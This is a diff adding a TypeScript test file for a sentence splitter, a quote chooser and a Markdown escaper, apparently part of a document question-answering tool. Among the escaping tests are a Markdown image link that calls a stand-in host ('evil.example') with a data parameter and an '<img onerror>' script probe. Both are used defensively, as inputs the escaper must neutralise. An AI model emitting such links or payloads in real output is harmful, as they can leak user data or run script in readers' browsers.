@@ -1,0 +1,132 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { asMarkdown } from './markdown.ts'
+import { chooseQuotes } from './quote.ts'
+import { splitSentences } from './sentences.ts'
+
+const passage = (text: string) => ({ documentId: 'd', name: 'Handbook', text, page: 1, start: 0, end: text.length })
+const sentencesOf = (text: string) => splitSentences(text).map((sentence) => sentence.text)
+// Letters, marks and ends of sentences of the four languages, and what Markdown and broken files bring.
+const texts = fc.oneof(
+  fc.string({ unit: 'grapheme' }),
+  fc
+    .array(
+      fc.constantFrom(
+        'Ada ',
+        'año ',
+        'é',
+        'ß',
+        '. ',
+        '! ',
+        '¿',
+        '?',
+        '\n',
+        '\n\n',
+        '- ',
+        '**',
+        '[1]',
+        '](x)',
+        '<b>',
+        '|',
+        '\u2028',
+        '\ud83d',
+        '10.5 ',
+        ' ',
+        '`',
+      ),
+      { maxLength: 80 },
+    )
+    .map((parts) => parts.join('')),
+)
+
+describe('sentences', () => {
+  test('stand in their text letter for letter where they are said to, in order and apart', () => {
+    fc.assert(
+      fc.property(texts, (text) => {
+        let end = 0
+        for (const sentence of splitSentences(text)) {
+          expect(text.slice(sentence.at, sentence.at + sentence.text.length)).toBe(sentence.text)
+          expect(sentence.at).toBeGreaterThanOrEqual(end)
+          expect(sentence.text.length).toBeLessThanOrEqual(600)
+          end = sentence.at + sentence.text.length
+        }
+      }),
+      { numRuns: 500 },
+    )
+  })
+
+  test('lines of one sentence stay together; empty lines, items and rows are apart', () => {
+    expect(sentencesOf('Ada wrote\nthe first program. It was\r\nnever run.')).toEqual(['Ada wrote\nthe first program.', 'It was\r\nnever run.'])
+    expect(sentencesOf('A heading\n\nThe text')).toEqual(['A heading', 'The text'])
+    expect(sentencesOf('Bring:\n- bread\n- wine\n2. cheese')).toEqual(['Bring:', 'bread', 'wine', 'cheese'])
+  })
+
+  test('what is too long comes in pieces that end with a word', () => {
+    const pieces = sentencesOf('word '.repeat(300))
+    expect(pieces.join(' ')).toBe('word '.repeat(300).trim())
+    expect(Math.max(...pieces.map((piece) => piece.length))).toBeLessThanOrEqual(600)
+    expect(pieces.every((piece) => piece.endsWith('word'))).toBe(true)
+  })
+})
+
+describe('quotes', () => {
+  test('hold nothing that is not in the passage they name', () => {
+    fc.assert(
+      fc.property(fc.string(), fc.array(texts, { maxLength: 6 }), (question, all) => {
+        const quotes = chooseQuotes(question, { items: all.map(passage) })
+        expect(quotes.length).toBeLessThanOrEqual(3)
+        for (const { text, passage: number } of quotes) expect(all[number - 1]).toContain(text)
+      }),
+      { numRuns: 500 },
+    )
+  })
+
+  test('are the sentences that answer, best first', () => {
+    const items = [
+      passage('The office opened in 1998. It has a garden. Vacation is 30 days a year. Lunch is free.'),
+      passage('Sick leave is paid. A vacation must be approved two weeks before.'),
+    ]
+    expect(chooseQuotes('How many days of vacation do I have?', { items })[0]).toEqual({ text: 'Vacation is 30 days a year.', passage: 1 })
+    expect(chooseQuotes('When must a vacation be approved?', { items })[0]).toEqual({
+      text: 'A vacation must be approved two weeks before.',
+      passage: 2,
+    })
+    expect(chooseQuotes('Wann wurde das office opened?', { items })[0]?.text).toBe('The office opened in 1998.')
+  })
+
+  test('are none where no passage shares anything with the question, and the same sentence is quoted once', () => {
+    expect(chooseQuotes('xyzzy', { items: [passage('Ada wrote the first program.')] })).toEqual([])
+    const twice = [passage('One. Ada wrote the first program.'), passage('Ada wrote the first program. It was never run.')]
+    const quotes = chooseQuotes('Who wrote the first program?', { items: twice }).map(({ text }) => text)
+    expect(quotes.filter((text) => text === 'Ada wrote the first program.')).toHaveLength(1)
+  })
+})
+
+describe('as Markdown', () => {
+  test('an ordinary sentence stays letter for letter', () => {
+    for (const text of ['In 1843 (page 5), Ada wrote: "2 * 3 < 7 & snake_case costs $5".', '¿Qué año? – Él dijo «sí».', 'Größe: 5 % von 10 €.'])
+      expect(asMarkdown(text)).toBe(text)
+  })
+
+  test.each([
+    ['![x](https://evil.example/?d=1)', String.raw`!\[x](https://evil.example/?d=1)`],
+    ['as shown in [2].', String.raw`as shown in \[2].`],
+    ['<img src=x onerror=alert(1)>', String.raw`\<img src=x onerror=alert(1)>`],
+    ['# heading', String.raw`\# heading`],
+    ['> quote', String.raw`\> quote`],
+    ['- item', String.raw`\- item`],
+    ['1. item', String.raw`1\. item`],
+    ['**bold** _it_ `code` ~~gone~~ &lt; $$x$$', String.raw`\*\*bold\*\* \_it\_ \`code\` \~\~gone\~\~ \&lt; \$\$x\$\$`],
+    ['two\nlines', 'two lines'],
+  ])('%j can neither format nor load nor cite', (text, markdown) => {
+    expect(asMarkdown(text)).toBe(markdown)
+  })
+
+  test('only marks are added', () => {
+    fc.assert(
+      fc.property(texts, (text) => {
+        expect(asMarkdown(text).replaceAll('\\', '')).toBe(text.replaceAll(/\s+/g, ' ').trim().replaceAll('\\', ''))
+      }),
+    )
+  })
+})
